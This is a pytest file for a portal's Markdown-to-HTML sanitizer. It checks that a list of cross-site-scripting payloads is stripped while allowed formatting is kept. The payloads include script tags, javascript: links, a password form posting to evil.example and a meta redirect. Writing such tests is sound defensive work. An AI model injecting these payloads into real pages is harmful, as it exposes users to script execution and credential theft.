"""The sanitizer between staff's Markdown and members' pages and mailboxes."""

import re

import pytest

from portal.announcements.rendering import to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "<iframe src=https://evil.example></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    "<div><p>unclosed <b>nested <i>tags",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://x" style="position:fixed">x</a>',
    "<form action=https://evil.example><input name=password></form>",
    "![pixel](https://evil.example/track.png)",
    "<!-- a comment --><p>text</p>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "[x](https://ok.example \"title\" onmouseover=alert(1))",
]
ALLOWED_TAG = re.compile(r"</?(p|br|em|strong|ul|ol|li|a|h[2-6]|blockquote)\b")


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_survives(source):
    html = to_html(source)
    assert all(ALLOWED_TAG.match(tag) for tag in re.findall(r"</?[a-zA-Z][^>]*>", html)), html
    for attribute in re.findall(r"\s([a-z-]+)=", "".join(re.findall(r"<[^>]+>", html))):
        assert attribute in ("href", "rel", "start"), html
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"(https?:|mailto:)", href), html


def test_what_staff_may_use_is_kept():
    html = to_html("# Heading\n\n*em* **strong** [link](https://momd.gov.iq)\n\n- one\n- two\n\n"
                   "1. first\n\n> quoted\n\n<mailto:info@momd.gov.iq>")
    assert "<h2>Heading</h2>" in html  # the page's h1 is the title
    assert "<em>em</em>" in html and "<strong>strong</strong>" in html
    assert '<a href="https://momd.gov.iq" rel="nofollow noopener">link</a>' in html
    assert "<ul>" in html and "<ol>" in html and "<blockquote>" in html
    assert 'href="mailto:info@momd.gov.iq"' in html


def test_control_characters_are_dropped():
    assert to_html("a\x00b\x1ac") == "<p>abc</p>\n"
